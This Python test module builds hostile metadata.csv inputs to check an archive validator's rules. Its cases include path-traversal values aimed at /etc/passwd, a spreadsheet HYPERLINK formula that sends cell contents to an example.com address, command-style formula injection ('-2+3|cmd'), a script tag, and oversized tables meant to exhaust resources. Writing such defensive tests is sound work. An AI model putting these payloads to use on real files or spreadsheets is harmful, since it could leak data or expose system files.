"""metadata.csv: what spreadsheets, editors and malice make of it."""

from __future__ import annotations

import os
from collections.abc import Callable, Iterator, Mapping

from schemas.settings import ArchiveLimits
from tests.hostile import sounds, tables, zips
from tests.hostile.case import ACCEPTED, BAD_INPUT, REFUSED, Case, Make, entries, later, zipped
from tests.hostile.tables import normals, row, table

LIMITS = ArchiveLimits()
FORMULA = '=HYPERLINK("http://example.com/?"&A1,"click")'

_SECTIONS = {
    "like a parent folder": "../../../escaped",
    "by two dots": "..",
    "by 900 letters": "a" * 900,
    "by 900 Hangul": "가" * 900,
    "like a template": "{limit.__class__}",
    "like a format string": "%s%n",
}


def cases() -> Iterator[Case]:
    """Every case of a table."""
    for what, (data, rules) in {**_whole_files(), **_headers(), **_rows()}.items():
        yield Case(f"a table {what}", _tabled(data), rules=rules)
    for what, (cells, rule) in _cells().items():
        yield Case(f"a cell with {what}", _tabled(_with(**cells)), rules=(rule,))
    for what, data in _readable().items():
        yield Case(f"a table {what}", _tabled(data), ACCEPTED)
    for what, (make, rules) in _large().items():
        yield Case(f"a table {what}", make, BAD_INPUT if rules else ACCEPTED, rules)
    formula = [*normals(), row("audio/x.wav", clip_id="=1+1", operating_mode="@SUM(A1)", confirmed_by="-2+3|cmd")]
    clip = zips.Entry("audio/x.wav", sounds.recording(83))
    yield Case("a row of formulas", zipped(entries(clip, table=table(formula))), ACCEPTED)
    script = [*normals(), row("audio/x.wav", clip_id="<script>alert(1)")]
    yield Case("a clip named like a script", zipped(entries(clip, table=table(script))), ACCEPTED)
    for what, name in _SECTIONS.items():
        lines = [{**line, "section_id": name} for line in normals()]
        yield Case(f"a section called {what}", _tabled(table(lines)), ACCEPTED)
    few = table(normals()[:2])
    yield Case("a table of two normals", _tabled(few), REFUSED, ("asset.normals",), notes=("file.unlisted",))
    own = [*normals(), row("metadata.csv")]
    yield Case("a table that lists itself", _tabled(table(own)), rules=("clip.undecodable", "row.path"))
    stolen = [*normals(), row("audio/../../../../etc/passwd")]
    yield Case("a table that lists another's file", _tabled(table(stolen)), rules=("row.path",))


def _tabled(data: bytes) -> Make:
    return zipped(entries(table=data))


def _with(**cells: str) -> bytes:
    """The good table, the first row's cells changed."""
    first, *others = normals()
    return table([first | cells, *others], quote=True)


def _whole_files() -> dict[str, tuple[bytes, tuple[str, ...]]]:
    good = table(normals())
    return {
        "of no bytes": (b"", ("table.empty",)),
        "of a byte order mark": (b"\xef\xbb\xbf", ("table.empty",)),
        "of blank lines": (b"\r\n" * 10_000, ("table.empty",)),
        "of a header alone": (good.splitlines(keepends=True)[0], ("table.empty",)),
        "of NULs": (bytes(50_000), ("table.empty",)),
        "with a NUL": (good.replace(b"Kim", b"K\0m", 1), ("cell.control",)),
        "of noise": (os.urandom(50_000), ("table.encoding",)),
        "of two encodings": (
            good + "audio/x.wav,fan,00,true,김,".encode("cp949") + "이\r\n".encode(),
            ("table.encoding",),
        ),
        "with half of a character": (good.replace(b"Kim", "김".encode()[:2], 1), ("table.encoding",)),
        "with a surrogate": (good.replace(b"Kim", b"\xed\xa0\x80", 1), ("table.encoding",)),
        "that is a zip": (zips.archive([zips.Entry("x", b"x" * 5000)]), ("table.unreadable",)),
        "with a quote that is never closed": (good.replace(b"Kim", b'"Kim', 1), ("table.unreadable",)),
        "with a cell of 200,000 characters": (good.replace(b"Kim", b"K" * 200_000, 1), ("table.unreadable",)),
    }


def _headers() -> dict[str, tuple[bytes, tuple[str, ...]]]:
    header, rest = table(normals()).split(b"\r\n", 1)
    wide = b",".join(b"c%d" % number for number in range(100_000))
    return {
        "of 100,000 columns": (wide + b"\r\n" + rest, ("table.columns",)),
        "with one column twice": (header + b",section_id\r\n" + rest, ("table.column_twice",)),
        "with one column in two languages": (header + ",설비 번호\r\n".encode() + rest, ("table.column_twice",)),
        "without machine types": (header.replace(b"machine_type", b"x") + b"\r\n" + rest, ("table.column_missing",)),
        "without a header": (rest, ("table.column_missing",)),
    }


def _large() -> dict[str, tuple[Make, tuple[str, ...]]]:
    """Tables as large as the limits let through, stored so that none is taken for a bomb."""
    size = LIMITS.max_table_bytes - 1000
    rest = table(normals())

    def stored(data: Callable[[], bytes]) -> Make:
        return later(lambda: zipped([zips.Entry("metadata.csv", data(), method=zips.STORED), *entries()[1:]]))

    return {
        "of one endless line": (stored(lambda: b"x" * size), ("table.unreadable",)),
        "of millions of empty columns": (stored(lambda: b"," * size), ("table.unreadable",)),
        "of millions of named columns": (stored(lambda: b"ab," * (size // 3)), ("table.unreadable",)),
        "with a row of millions of cells": (stored(lambda: rest + b"ab," * (size // 3)), ("table.unreadable",)),
        "with a row of millions of lines": (stored(lambda: rest + b'"\n",' * (size // 4)), ("table.unreadable",)),
        "with millions of empty lines": (stored(lambda: rest + b"\n" * size), ("table.rows",)),
        "with millions of short lines": (stored(lambda: rest + b"x\n" * (size // 2)), ("table.rows",)),
        "with millions of empty cells": (stored(lambda: rest + (b"," * 400 + b"\n") * (size // 401)), ()),
        "in the widest characters": (stored(lambda: rest + "𝄞".encode() * (size // 4)), ("table.unreadable",)),
        "with a quote that swallows all": (stored(lambda: rest + b'"' + b"x\n" * (size // 2)), ("table.unreadable",)),
        "with an accent at the end of millions of letters": (
            stored(lambda: rest + b"x\n" * (size // 2) + b"\xe9"),
            ("table.encoding",),
        ),
        "with 40 million brackets": (stored(_brackets), ("file.missing", "row.regions")),
        "beyond the limit": (stored(lambda: b"x" * (size + 2000)), ("table.bytes",)),
    }


def _brackets() -> bytes:
    """As many rows as a table may have, each with regions that open 800 lists and close none."""
    rows = (row(f"audio/{n}.wav", **_regions("[" * 800)) for n in range(LIMITS.max_entries - 1))
    return table(rows)


def _rows() -> dict[str, tuple[bytes, tuple[str, ...]]]:
    good = table(normals())
    line = good.splitlines(keepends=True)[1]
    return {
        "with one cell too many": (good.replace(b"Kim", b"Kim, Lee", 1), ("cell.time", "table.row_width")),
        "with a row of 100,000 cells": (
            good + line.rstrip() + b",x" * 100_000 + b"\r\n",
            ("row.path_twice", "table.row_width"),
        ),
        "of 50,001 rows": (good + b"a,b\r\n" * LIMITS.max_entries, ("table.rows",)),
        "with one file in two rows": (good + line, ("row.path_twice",)),
        "with a file that is not there": (table([*normals(), row("audio/none.wav")]), ("file.missing",)),
        "with a path in another case": (good.replace(b"normal_0", b"Normal_0"), ("file.elsewhere",)),
        "with a row of half a line": (good + b"audio/x.wav", ("cell.missing", "file.missing", "row.train_confirmed")),
    }


def _cells() -> dict[str, tuple[Mapping[str, str], str]]:
    return {
        "an absolute path": ({"relative_path": "/etc/passwd"}, "row.path"),
        "a parent folder": ({"relative_path": "audio/../../etc/passwd"}, "row.path"),
        "a backslash": ({"relative_path": "audio\\normal_0.wav"}, "row.path"),
        "dots of full width": ({"relative_path": "audio/．．／metadata.csv"}, "row.path"),
        "a line break": ({"confirmed_by": "Kim\nLee"}, "cell.control"),
        "a bell": ({"confirmed_by": "Kim\a"}, "cell.control"),
        "a direction override": ({"confirmed_by": "Kim\u202eeeL"}, "cell.control"),
        "5,000 characters": ({"operating_mode": "x" * 5000}, "cell.length"),
        "perhaps for yes or no": ({"confirmed_normal": "perhaps"}, "cell.boolean"),
        "a number that is infinite": ({"snr_db": "1e999"}, "cell.number"),
        "a number in another script": ({"snr_db": "12,5"}, "cell.number"),
        "an unknown split": ({"split": "validation"}, "cell.choice"),
        "an unknown machine": ({"machine_type": "../fan"}, "row.machine_type"),
        "a time that is none": ({"recorded_at": "yesterday"}, "cell.time"),
        "a day's number for a time": ({"recorded_at": "46083.395833"}, "cell.serial"),
        "a slash in a clip's name": ({"clip_id": "../../escaped"}, "row.clip_id"),
        "dots for a clip's name": ({"clip_id": ".."}, "row.clip_id"),
        "brackets 400 deep": (_regions("[" * 400), "row.regions"),
        "regions out of order": (_regions("[[2,1]]"), "row.regions"),
        "regions of infinity": (_regions("[[0,1e999]]"), "row.regions"),
        "a formula for a path": ({"relative_path": FORMULA}, "row.path"),
    }


def _regions(text: str) -> Mapping[str, str]:
    return {"split": "test", "label": "anomaly", "anomaly_regions": text}


def _readable() -> dict[str, bytes]:
    good = table(normals())
    return {
        "with a byte order mark": b"\xef\xbb\xbf" + good,
        "in lines of old Macs": good.replace(b"\r\n", b"\r"),
        "with every cell in quotes": table(normals(), quote=True),
        "in Korean": _korean().encode(),
        "with empty cells behind the last": good.replace(b"\r\n", b",,,\r\n"),
    }


def _korean() -> str:
    return "파일,기계,설비,정상 확인\n" + "".join(f"audio/normal_{n}.wav,팬,00,예\n" for n in range(tables.NORMALS))
